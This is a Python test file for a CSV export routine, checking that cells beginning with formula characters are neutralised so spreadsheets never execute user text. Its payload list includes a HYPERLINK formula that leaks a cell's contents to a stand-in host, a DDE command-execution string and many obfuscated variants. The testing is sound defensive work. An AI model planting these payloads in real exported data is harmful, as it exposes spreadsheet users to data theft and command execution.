"""Tables leave as text and numbers: no program that opens one runs what a complainant wrote."""

import csv
import io
import re
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.domain import sheet
from engine.domain.sheet import as_csv, harmless

FORMULAS = (
    '=HYPERLINK("http://collector.test/?"&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1",
    "\x0b=1",
    "\x00=1",
    "＝1+1",  # noqa: RUF001 - the full-width sign is meant
    "﹢1",
    '"=1',
    "fine;=1+1",
    "fine\t=1+1",
    "fine\n=1+1",
    "fine\r\n@SUM(1)",
)
CUTS = re.compile("[;\\t\\r\\n\\v\\f\\x85\\u2028\\u2029]")
"""Where a spreadsheet from a country of other separators cuts, and one that knows no quotes."""


def _read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def _is_run(cell: str) -> bool:
    """Tell as a spreadsheet does: by the first character that can be seen."""
    seen = [c for c in cell if not c.isspace() and unicodedata.category(c) not in {"Cf", "Cc"}]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@"


def _formulas(table: bytes) -> list[str]:
    """Return every cell that a spreadsheet would run, whatever its separator."""
    cells = [cell for row in _read(table) for cell in row]
    elsewhere = CUTS.split(table.decode("utf-8-sig"))
    pieces = [piece for cell in cells for piece in CUTS.split(cell)]
    found = (*cells, *pieces, *(piece.lstrip('"') for piece in elsewhere))
    return [cell for cell in found if _is_run(cell)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_reader_finds_a_formula_whatever_its_separator(formula):
    assert _formulas(as_csv(["Text", "More"], [[formula, "x"], ["x", formula]])) == []


@given(text=st.text(st.sampled_from("=+-@;,\t\r\n \"'a1\u200b\ufeff\x0b＝"), max_size=12))  # noqa: RUF001 - as above
def test_no_text_becomes_a_formula(text):
    assert _formulas(as_csv(["Text"], [[text, text]])) == []


def test_the_names_of_columns_are_text_too():
    assert _formulas(as_csv(["=1+1"], [])) == []


def test_numbers_stay_numbers_and_nothing_stays_empty():
    table = as_csv(["a", "b", "c", "d"], [[-5, -0.5, Decimal("-12.30"), None]])

    assert _read(table)[1] == ["-5", "-0.5", "-12.30", ""]


@given(text=st.text(st.characters(categories=["L", "N"]), max_size=20))
def test_ordinary_words_stay_as_they_are(text):
    assert harmless(text) == text


@given(text=st.text(max_size=40))
def test_nothing_is_lost_but_apostrophes_are_added(text):
    cell = str(harmless(text))

    assert cell.replace("'", "") == text.replace("'", "")


def test_a_table_that_leaves_formulas_alone_is_noticed(monkeypatch):
    monkeypatch.setattr(sheet, "harmless", lambda cell: cell)

    assert len(_formulas(as_csv(["Text"], [[formula] for formula in FORMULAS]))) >= len(FORMULAS)
